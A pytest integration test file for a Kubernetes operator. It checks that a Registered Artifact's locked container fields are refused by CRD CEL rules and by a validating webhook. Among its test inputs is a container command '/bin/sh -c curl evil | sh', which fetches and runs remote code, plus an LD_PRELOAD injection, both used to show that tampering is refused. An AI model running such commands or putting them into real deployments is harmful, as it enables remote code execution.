"""A Registered Artifact's locks, proven through the API server: one real update per locked field
(the spec replaced, as ``kubectl replace`` does), each refused with a message naming the field, and
nothing of it stored.

Who refuses: the CRD's CEL transition rules (crds/artifacts.kiln.dev.yaml, from
:func:`kiln.api.crds.artifact_spec_validations`) run while the API server validates the object, before
any validating admission webhook is called; a refused update never reaches the operator's webhook
(``validate-artifact``, :func:`kiln.admission.handlers.validate_artifact`). And there is no locked
change the rules cannot see: they compare every locked field of every container as stored (list order
included, both unset counting as equal), while the webhook compares the spec as the models parse it,
a coarser view of the same fields (unknown fields are pruned by the API server and ignored by the
models alike). So CEL always answers first, and the webhook's own refusal is reached through the API
server only with the CRD's lock rules out of the way. Each case runs in three setups (``setup``):

- ``cel-alone``: the operator stopped, no webhook configured: the CRD rule alone refuses.
- ``cel-first``: the operator running: CEL still refuses, and the API server's metrics show it did not
  call the webhook for the refused update (it does call it for an allowed spec change).
- ``webhook-alone``: the operator running and the CRD served without its spec rules (as in a cluster
  whose CRD lags behind the operator, or was edited; restored afterwards): the webhook's own refusal,
  "Artifact locked is Registered and its spec is locked: <paths> changed", comes back through the API
  server, whose metrics show it called the webhook.

The cases cover every lock rule of the CRD and every container field of its schema
(test_cases_cover_every_lock_rule_and_container_field checks that against crds/, so a field added
later needs a case here). A Workload's inline artifact, a creation shortcut, is locked from creation
by a CEL rule of its own (test_inline_artifact_is_locked_from_creation).
"""

from __future__ import annotations

import copy
import json
import re
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Any

import pytest
import yaml
from kubernetes.client.exceptions import ApiException

from kiln.api.models import ARTIFACT_CONTAINERS_LOCKED_MESSAGE, ARTIFACT_LOCKED_MESSAGE, ARTIFACT_NO_RETURN_MESSAGE
from tests.conftest import REPO, make_namespace
from tests.integration.test_registration import register, validate_artifact_calls
from tests.integration.test_workloads import G, V, artifact, create, get, patch, workload
from tests.kube import Kube, Operator

pytestmark = pytest.mark.cluster

NAME = "locked"
CRD = "artifacts.kiln.dev"
CRD_FILE = REPO / "crds" / f"{CRD}.yaml"
WEBHOOK = "validate-artifact.kiln.dev"

# Every container field the schema has, set, in the primary container; the sidecar has the minimum.
PRIMARY: dict[str, Any] = {
    "name": "app",
    "image": "registry.example/app:1",
    "imagePullPolicy": "IfNotPresent",
    "command": ["/srv/serve"],
    "args": ["--port", "8080"],
    "workingDir": "/srv",
    "env": [{"name": "MODE", "value": "prod"},
            {"name": "TOKEN", "valueFrom": {"secretKeyRef": {"name": "creds", "key": "token"}}}],
    "envFrom": [{"configMapRef": {"name": "settings"}}],
    "ports": [{"name": "http", "containerPort": 8080, "protocol": "TCP"}],
    "resources": {"requests": {"cpu": "100m", "memory": "128Mi"}, "limits": {"memory": "256Mi"}},
    "readinessProbe": {"httpGet": {"path": "/ready", "port": "http"}},
    "livenessProbe": {"tcpSocket": {"port": 8080}, "periodSeconds": 10},
    "startupProbe": {"exec": {"command": ["/srv/started"]}, "failureThreshold": 30},
}
SIDECAR: dict[str, Any] = {"name": "side", "image": "registry.example/side:1"}
CONTAINERS = [PRIMARY, SIDECAR]

Spec = dict[str, Any]


@dataclass(frozen=True)
class Change:
    """One update of a Registered Artifact's spec and what each line of defence says of it."""

    id: str
    field: str  # the container field changed, or "containers" / "lifecycle"
    edit: Callable[[Spec], None]  # changes a copy of the spec in place
    cel: tuple[str, ...]  # the CRD rules' messages (one per rule broken)
    webhook: str  # what validate_artifact says

    @property
    def paths(self) -> list[str]:
        """The field paths the CRD rules name."""
        return re.findall(r"spec\.containers\[\d+\]\.\w+|spec\.containers(?= is)|spec\.lifecycle", " ".join(self.cel))


def locked(*paths: str) -> str:
    """The CRD rule's message for one changed container field."""
    assert len(paths) == 1
    return ARTIFACT_LOCKED_MESSAGE.format(field=paths[0])


def containers_locked(requested: str) -> str:
    return f"{ARTIFACT_CONTAINERS_LOCKED_MESSAGE} (registered: app, side; requested: {requested})"


def spec_locked(*paths: str) -> str:
    """The webhook's message (names the artifact and every path changed)."""
    return (f"Artifact {NAME} is Registered and its spec is locked: {', '.join(paths)} changed (only "
            "spec.displayName and spec.description may change; create a new Artifact instead)")


NO_RETURN = f"Artifact {NAME} is Registered: spec.lifecycle cannot return to Draft; create a new Artifact to iterate on"


def c(i: int, **fields: Any) -> Callable[[Spec], None]:
    """An edit setting fields of container i (None removes one)."""
    def edit(spec: Spec) -> None:
        for k, v in fields.items():
            if v is None:
                del spec["containers"][i][k]
            else:
                spec["containers"][i][k] = copy.deepcopy(v)
    return edit


def at(path: str, value: Any) -> Callable[[Spec], None]:
    """An edit setting one nested value: ``at("containers.0.env.1.valueFrom.secretKeyRef.key", "x")``."""
    *parents, last = path.split(".")

    def edit(spec: Spec) -> None:
        node: Any = spec
        for p in parents:
            node = node[int(p)] if isinstance(node, list) else node[p]
        node[int(last) if isinstance(node, list) else last] = copy.deepcopy(value)
    return edit


def containers(fn: Callable[[list[Any]], list[Any]]) -> Callable[[Spec], None]:
    def edit(spec: Spec) -> None:
        spec["containers"] = fn(spec["containers"])
    return edit


def both(*edits: Callable[[Spec], None]) -> Callable[[Spec], None]:
    def edit(spec: Spec) -> None:
        for e in edits:
            e(spec)
    return edit


def lifecycle(value: str | None) -> Callable[[Spec], None]:
    def edit(spec: Spec) -> None:
        if value is None:
            del spec["lifecycle"]  # the schema's default (Draft) takes its place
        else:
            spec["lifecycle"] = value
    return edit


P = "spec.containers[0]"
S = "spec.containers[1]"
CHANGES = [
    Change("image", "image", c(0, image="registry.example/app:2"), (locked(f"{P}.image"),), spec_locked(f"{P}.image")),
    Change("image-of-a-sidecar", "image", c(1, image="registry.example/side:2"), (locked(f"{S}.image"),),
           spec_locked(f"{S}.image")),
    Change("image-pinned-by-digest", "image", c(0, image="registry.example/app@sha256:" + "0" * 64),
           (locked(f"{P}.image"),), spec_locked(f"{P}.image")),
    Change("imagePullPolicy", "imagePullPolicy", c(0, imagePullPolicy="Always"), (locked(f"{P}.imagePullPolicy"),),
           spec_locked(f"{P}.imagePullPolicy")),
    Change("command", "command", c(0, command=["/bin/sh", "-c", "curl evil | sh"]), (locked(f"{P}.command"),),
           spec_locked(f"{P}.command")),
    Change("command-removed", "command", c(0, command=None), (locked(f"{P}.command"),), spec_locked(f"{P}.command")),
    Change("command-emptied", "command", c(0, command=[]), (locked(f"{P}.command"),), spec_locked(f"{P}.command")),
    Change("args", "args", at("containers.0.args.1", "9090"), (locked(f"{P}.args"),), spec_locked(f"{P}.args[1]")),
    Change("args-added", "args", c(0, args=["--port", "8080", "--debug"]), (locked(f"{P}.args"),),
           spec_locked(f"{P}.args")),
    Change("workingDir", "workingDir", c(0, workingDir="/tmp"), (locked(f"{P}.workingDir"),),
           spec_locked(f"{P}.workingDir")),
    Change("workingDir-added-to-a-sidecar", "workingDir", c(1, workingDir="/srv"), (locked(f"{S}.workingDir"),),
           spec_locked(f"{S}.workingDir")),
    Change("env-value", "env", at("containers.0.env.0.value", "debug"), (locked(f"{P}.env"),),
           spec_locked(f"{P}.env[0].value")),
    Change("env-valueFrom", "env", at("containers.0.env.1.valueFrom.secretKeyRef.key", "admin-token"),
           (locked(f"{P}.env"),), spec_locked(f"{P}.env[1].valueFrom.secretKeyRef.key")),
    Change("env-added", "env", at("containers.0.env", [*PRIMARY["env"], {"name": "LD_PRELOAD", "value": "/x.so"}]),
           (locked(f"{P}.env"),), spec_locked(f"{P}.env")),
    Change("env-removed", "env", c(0, env=None), (locked(f"{P}.env"),), spec_locked(f"{P}.env")),
    # Order matters ($(VAR) references earlier entries), though the API server's CEL equality of a
    # keyed list ignores it: the rule compares the keys in order as well.
    Change("env-reordered", "env", at("containers.0.env", list(reversed(PRIMARY["env"]))), (locked(f"{P}.env"),),
           spec_locked(*(f"{P}.env[{i}].{k}" for i in (0, 1) for k in ("name", "value", "valueFrom")))),
    Change("env-added-to-a-sidecar", "env", c(1, env=[{"name": "MODE", "value": "debug"}]), (locked(f"{S}.env"),),
           spec_locked(f"{S}.env")),
    Change("envFrom-prefix", "envFrom", at("containers.0.envFrom.0.prefix", "APP_"), (locked(f"{P}.envFrom"),),
           spec_locked(f"{P}.envFrom[0].prefix")),
    Change("envFrom-source", "envFrom", at("containers.0.envFrom", [{"secretRef": {"name": "settings"}}]),
           (locked(f"{P}.envFrom"),), spec_locked(f"{P}.envFrom[0].configMapRef", f"{P}.envFrom[0].secretRef")),
    Change("envFrom-added", "envFrom", at("containers.0.envFrom", [*PRIMARY["envFrom"], {"secretRef": {"name": "x"}}]),
           (locked(f"{P}.envFrom"),), spec_locked(f"{P}.envFrom")),
    Change("ports-number", "ports", at("containers.0.ports.0.containerPort", 9090), (locked(f"{P}.ports"),),
           spec_locked(f"{P}.ports[0].containerPort")),
    Change("ports-protocol", "ports", at("containers.0.ports.0.protocol", "UDP"), (locked(f"{P}.ports"),),
           spec_locked(f"{P}.ports[0].protocol")),
    Change("ports-added", "ports", at("containers.0.ports", [*PRIMARY["ports"], {"name": "metrics",
                                                                                "containerPort": 9090,
                                                                                "protocol": "TCP"}]),
           (locked(f"{P}.ports"),), spec_locked(f"{P}.ports")),
    Change("ports-removed", "ports", c(0, ports=None), (locked(f"{P}.ports"),), spec_locked(f"{P}.ports")),
    Change("resources-limit", "resources", at("containers.0.resources.limits.memory", "64Gi"),
           (locked(f"{P}.resources"),), spec_locked(f"{P}.resources.limits.memory")),
    Change("resources-gpu-added", "resources",
           c(0, resources={**PRIMARY["resources"], "limits": {"memory": "256Mi", "nvidia.com/gpu": 1}}),
           (locked(f"{P}.resources"),), spec_locked(f"{P}.resources.limits.nvidia.com/gpu")),
    Change("resources-request-respelled", "resources", at("containers.0.resources.requests.cpu", "0.1"),
           (locked(f"{P}.resources"),), spec_locked(f"{P}.resources.requests.cpu")),
    Change("resources-removed", "resources", c(0, resources=None), (locked(f"{P}.resources"),),
           spec_locked(f"{P}.resources")),
    Change("readinessProbe", "readinessProbe", at("containers.0.readinessProbe.httpGet.path", "/"),
           (locked(f"{P}.readinessProbe"),), spec_locked(f"{P}.readinessProbe.httpGet.path")),
    Change("livenessProbe", "livenessProbe", at("containers.0.livenessProbe.periodSeconds", 3600),
           (locked(f"{P}.livenessProbe"),), spec_locked(f"{P}.livenessProbe.periodSeconds")),
    Change("livenessProbe-removed", "livenessProbe", c(0, livenessProbe=None), (locked(f"{P}.livenessProbe"),),
           spec_locked(f"{P}.livenessProbe")),
    Change("startupProbe", "startupProbe", at("containers.0.startupProbe.exec.command", ["/bin/true"]),
           (locked(f"{P}.startupProbe"),), spec_locked(f"{P}.startupProbe.exec.command[0]")),
    Change("probe-added-to-a-sidecar", "readinessProbe", c(1, readinessProbe={"tcpSocket": {"port": 9000}}),
           (locked(f"{S}.readinessProbe"),), spec_locked(f"{S}.readinessProbe")),
    # Two rules broken: both say so.
    Change("image-and-workingDir", "image", both(c(0, image="registry.example/app:2"), c(0, workingDir="/tmp")),
           (locked(f"{P}.image"), locked(f"{P}.workingDir")), spec_locked(f"{P}.image", f"{P}.workingDir")),
    Change("container-added", "containers", containers(lambda cs: [*cs, {"name": "extra", "image": "x:1"}]),
           (containers_locked("app, side, extra"),), spec_locked("spec.containers")),
    Change("container-removed", "containers", containers(lambda cs: cs[:1]), (containers_locked("app"),),
           spec_locked("spec.containers")),
    Change("sidecar-renamed", "containers", c(1, name="helper"), (containers_locked("app, helper"),),
           spec_locked(f"{S}.name")),
    Change("containers-reordered", "containers", containers(lambda cs: list(reversed(cs))),
           (containers_locked("side, app"),),
           spec_locked(*(f"{P}.{k}" for k in ("args", "command", "env", "envFrom", "image", "imagePullPolicy",
                                               "livenessProbe", "name", "ports", "readinessProbe")),
                       "... (16 more)")),  # the webhook names ten
    Change("lifecycle-back-to-Draft", "lifecycle", lifecycle("Draft"), (ARTIFACT_NO_RETURN_MESSAGE,), NO_RETURN),
    Change("lifecycle-removed", "lifecycle", lifecycle(None), (ARTIFACT_NO_RETURN_MESSAGE,), NO_RETURN),
]


# --------------------------------------------------------------------------------------------------
# The three setups
# --------------------------------------------------------------------------------------------------


def crd_version_index(kube: Kube) -> int:
    crd = kube.ext.read_custom_resource_definition(CRD)
    return next(i for i, v in enumerate(crd.spec.versions) if v.name == V)


def spec_rules_path(kube: Kube) -> str:
    return f"/spec/versions/{crd_version_index(kube)}/schema/openAPIV3Schema/properties/spec/x-kubernetes-validations"


def lock_rules_in_file() -> list[dict[str, Any]]:
    """The spec's rules in crds/ (the lifecycle's and the locks): what the CRD serves."""
    doc = yaml.safe_load(CRD_FILE.read_text())
    version = next(v for v in doc["spec"]["versions"] if v["name"] == V)
    return list(version["schema"]["openAPIV3Schema"]["properties"]["spec"]["x-kubernetes-validations"])


def message(e: ApiException) -> str:
    """The API server's message in a refusal."""
    return str(json.loads(e.body or "{}").get("message", e.body))


def refusal(kube: Kube, ns: str, name: str, spec: Spec, dry_run: bool = False) -> tuple[int, str]:
    """Replace the Artifact's spec (a JSON patch, as ``kubectl replace`` would: keys left out are
    removed); it must be refused: the status code and the API server's message."""
    with pytest.raises(ApiException) as err:
        kube.custom.patch_namespaced_custom_object(G, V, ns, "artifacts", name,
                                                   [{"op": "replace", "path": "/spec", "value": spec}],
                                                   dry_run="All" if dry_run else None,
                                                   _content_type="application/json-patch+json")
    return int(err.value.status or 0), message(err.value)


def image_change_answer(kube: Kube, ns: str) -> str:
    """The API server's answer to a dry-run image change of the probe artifact."""
    spec = {"lifecycle": "Registered", "containers": [{**SIDECAR, "name": "app", "image": "registry.example/app:2"}]}
    return refusal(kube, ns, "probe", spec, dry_run=True)[1]


@contextmanager
def lock_rules_removed(kube: Kube) -> Iterator[None]:
    """The CRD served without the spec's rules (the lifecycle's and the locks), restored afterwards;
    waits, with a deadline, until the API server answers accordingly (it serves a changed CRD soon,
    not at once)."""
    ns = make_namespace(kube)
    try:
        create(kube, ns, artifact("probe", [{**SIDECAR, "name": "app"}], lifecycle="Registered"))
        cel = "Forbidden: spec.containers[0].image is locked"
        assert cel in image_change_answer(kube, ns)
        rules = lock_rules_in_file()
        path = spec_rules_path(kube)
        kube.kubectl("patch", "crd", CRD, "--type=json", "-p", json.dumps(
            [{"op": "test", "path": path, "value": rules}, {"op": "remove", "path": path}]))
        try:
            kube.wait(lambda: f'"{WEBHOOK}" denied' in image_change_answer(kube, ns),
                      what="the API server to serve the CRD without its lock rules")
            yield
        finally:
            kube.kubectl("patch", "crd", CRD, "--type=json", "-p", json.dumps(
                [{"op": "add", "path": spec_rules_path(kube), "value": rules}]))
            kube.wait(lambda: cel in image_change_answer(kube, ns),
                      what="the API server to serve the CRD with its lock rules again")
    finally:
        kube.core.delete_namespace(ns, propagation_policy="Background")


@pytest.fixture(scope="module", params=["cel-alone", "cel-first", "webhook-alone"])
def setup(request: pytest.FixtureRequest, kube: Kube, operator: Operator) -> Iterator[str]:
    """Who stands between a user and a locked field (module-scoped and parametrized: pytest runs every
    test of one setup, then tears it down, before the next)."""
    if request.param == "cel-alone":
        operator.stop()
        try:
            assert not kube.exists(kube.admission.read_validating_webhook_configuration, Operator.WEBHOOK_CONFIG)
            assert not kube.exists(kube.admission.read_mutating_webhook_configuration, Operator.WEBHOOK_CONFIG)
            yield request.param
        finally:
            operator.start()
    elif request.param == "webhook-alone":
        with lock_rules_removed(kube):
            yield request.param
    else:
        yield request.param


def registered(kube: Kube, ns: str, setup: str) -> Spec:
    """The Artifact, created as a Draft and registered through the API; its spec."""
    create(kube, ns, artifact(NAME, copy.deepcopy(CONTAINERS), displayName="Locked", description="v1"))
    if setup == "cel-alone":  # no operator: nothing records who registered it, the lock is the spec's
        patch(kube, ns, "artifacts", NAME, {"spec": {"lifecycle": "Registered"}})
        art = get(kube, ns, "artifacts", NAME)
    else:
        art = register(kube, ns, NAME)
    assert art["spec"]["lifecycle"] == "Registered"
    assert art["spec"]["containers"] == CONTAINERS, "stored as written: no default the cases would miss"
    return dict(art["spec"])


# --------------------------------------------------------------------------------------------------
# Tests
# --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("change", CHANGES, ids=[ch.id for ch in CHANGES])
def test_a_change_of_a_locked_field_is_refused(kube: Kube, setup: str, namespace: str, change: Change) -> None:
    ns = namespace
    before = registered(kube, ns, setup)
    spec = copy.deepcopy(before)
    change.edit(spec)
    assert spec != before
    calls = validate_artifact_calls(kube)

    status, msg = refusal(kube, ns, NAME, spec)

    assert status == 422, msg
    if setup == "webhook-alone":
        # The webhook's own answer, through the API server, which called it once.
        assert f'admission webhook "{WEBHOOK}" denied the request: {change.webhook}' in msg, msg
        assert "Forbidden" not in msg, msg
        assert validate_artifact_calls(kube) == calls + 1
    else:
        # The CRD's rules: one message per rule broken, naming the field (and the container's index).
        assert msg.startswith(f'Artifact.{G} "{NAME}" is invalid: ') or f'The Artifact "{NAME}" is invalid' in msg, msg
        for expected in change.cel:
            assert f"Forbidden: {expected}" in msg, msg
        assert msg.count("Forbidden: ") == len(change.cel), msg
        for path in change.paths:
            assert path in msg
        assert "denied the request" not in msg, msg
        # CEL answers before any validating webhook: the API server did not call it.
        assert validate_artifact_calls(kube) == calls
    after = get(kube, ns, "artifacts", NAME)
    assert after["spec"] == before, "nothing of the refused update was stored"


def test_the_same_change_as_a_json_patch_is_refused(kube: Kube, setup: str, namespace: str) -> None:
    """kubectl's JSON patch of one field, the way a user edits a single value."""
    ns = namespace
    before = registered(kube, ns, setup)
    r = kube.kubectl("patch", f"artifact.{G}", NAME, "-n", ns, "--type=json", "-p",
                     '[{"op":"replace","path":"/spec/containers/0/env/0/value","value":"debug"}]', check=False)
    assert r.returncode != 0, r.stdout
    expected = spec_locked(f"{P}.env[0].value") if setup == "webhook-alone" else locked(f"{P}.env")
    assert expected in r.stderr, r.stderr
    assert get(kube, ns, "artifacts", NAME)["spec"] == before


def test_display_name_and_description_may_still_change(kube: Kube, setup: str, namespace: str) -> None:
    ns = namespace
    before = registered(kube, ns, setup)
    calls = validate_artifact_calls(kube)
    patch(kube, ns, "artifacts", NAME, {"spec": {"displayName": "Locked, renamed", "description": "v2"}})
    kube.kubectl("patch", f"artifact.{G}", NAME, "-n", ns, "--type=json", "-p",
                 '[{"op":"remove","path":"/spec/displayName"}]')
    after = get(kube, ns, "artifacts", NAME)
    assert after["spec"] == {**{k: v for k, v in before.items() if k != "displayName"}, "description": "v2"}
    # A Registered artifact's spec change is checked by the webhook too, when it runs, and allowed.
    assert validate_artifact_calls(kube) == calls + (0 if setup == "cel-alone" else 2)


def test_the_status_subresource_cannot_carry_a_spec_change(kube: Kube, setup: str, namespace: str) -> None:
    """An update through /status (which the schema's rules do not judge) keeps the stored spec."""
    ns = namespace
    before = registered(kube, ns, setup)
    spec = copy.deepcopy(before)
    spec["containers"][0]["image"] = "registry.example/app:2"
    kube.custom.patch_namespaced_custom_object_status(G, V, ns, "artifacts", NAME, {"spec": spec})
    assert get(kube, ns, "artifacts", NAME)["spec"] == before


def test_cases_cover_every_lock_rule_and_container_field() -> None:
    """Each lock rule of the CRD as served (crds/), and each field of its container schema, is changed
    by at least one case above, and each rule's field names appear in that case's message."""
    rules = lock_rules_in_file()
    doc = yaml.safe_load(CRD_FILE.read_text())
    version = next(v for v in doc["spec"]["versions"] if v["name"] == V)
    item = version["schema"]["openAPIV3Schema"]["properties"]["spec"]["properties"]["containers"]["items"]
    fields = set(item["properties"]) - {"name"}
    covered = {ch.field for ch in CHANGES}
    assert fields | {"containers", "lifecycle"} == covered, "a container field without a case, or a case too many"
    for rule in rules:
        # The static message names the rule's fields: spec.containers[].image, spec.containers, spec.lifecycle.
        named = re.findall(r"spec\.containers\[\]\.(\w+)|spec\.(containers|lifecycle)(?=\W)", rule["message"])
        rule_fields = {a or b for a, b in named}
        assert rule_fields, rule["message"]
        for f in rule_fields:
            assert any(ch.field == f and any(f in m for m in ch.cel) for ch in CHANGES), (f, rule["message"])


# --------------------------------------------------------------------------------------------------
# A Workload's inline artifact
# --------------------------------------------------------------------------------------------------

INLINE = [ch for ch in CHANGES if ch.field != "lifecycle"] + [
    Change("displayName", "-", lambda s: s.update(displayName="Other"), (), ""),
    Change("description", "-", lambda s: s.update(description="other"), (), ""),
]


@pytest.mark.parametrize("change", INLINE, ids=[ch.id for ch in INLINE])
def test_inline_artifact_is_locked_from_creation(kube: Kube, crds: None, namespace: str, change: Change) -> None:
    """spec.artifact is a creation shortcut: any change is refused by the CRD's rule (Workloads have no
    webhook), naming the Artifact to edit instead."""
    ns = namespace
    wl = workload("runner", inline=copy.deepcopy(CONTAINERS), state="Stopped")
    wl["spec"]["artifact"]["description"] = "v1"
    before = create(kube, ns, wl)["spec"]
    spec = copy.deepcopy(before["artifact"])
    change.edit(spec)
    with pytest.raises(ApiException) as err:
        patch(kube, ns, "workloads", "runner", {"spec": {"artifact": spec}})
    msg = message(err.value)
    assert err.value.status == 422, msg
    assert ("spec.artifact: Forbidden: spec.artifact is a creation shortcut and cannot change: edit Artifact "
            "runner instead (kubectl edit artifact.kiln.dev runner)") in msg, msg
    assert get(kube, ns, "workloads", "runner")["spec"] == before


def test_inline_artifact_cannot_be_dropped_for_a_reference(kube: Kube, crds: None, namespace: str) -> None:
    ns = namespace
    before = create(kube, ns, workload("runner", inline=copy.deepcopy(CONTAINERS), state="Stopped"))["spec"]
    with pytest.raises(ApiException) as err:
        patch(kube, ns, "workloads", "runner", {"spec": {"artifact": None, "artifactRef": {"name": "other"}}})
    assert "spec.artifact is a creation shortcut and cannot change" in message(err.value)
    assert get(kube, ns, "workloads", "runner")["spec"] == before


def test_inline_artifact_cannot_be_added_later(kube: Kube, crds: None, namespace: str) -> None:
    """Nor can a Workload created with an artifactRef take an inline artifact afterwards (the operator
    would then make, or find, an Artifact under the Workload's name)."""
    ns = namespace
    wl = workload("runner", ref="other", state="Stopped")
    before = create(kube, ns, wl)["spec"]
    with pytest.raises(ApiException) as err:
        patch(kube, ns, "workloads", "runner", {"spec": {"artifactRef": None, "artifact": {
            "containers": copy.deepcopy(CONTAINERS)}}})
    assert "spec.artifact is a creation shortcut and cannot change" in message(err.value)
    assert get(kube, ns, "workloads", "runner")["spec"] == before
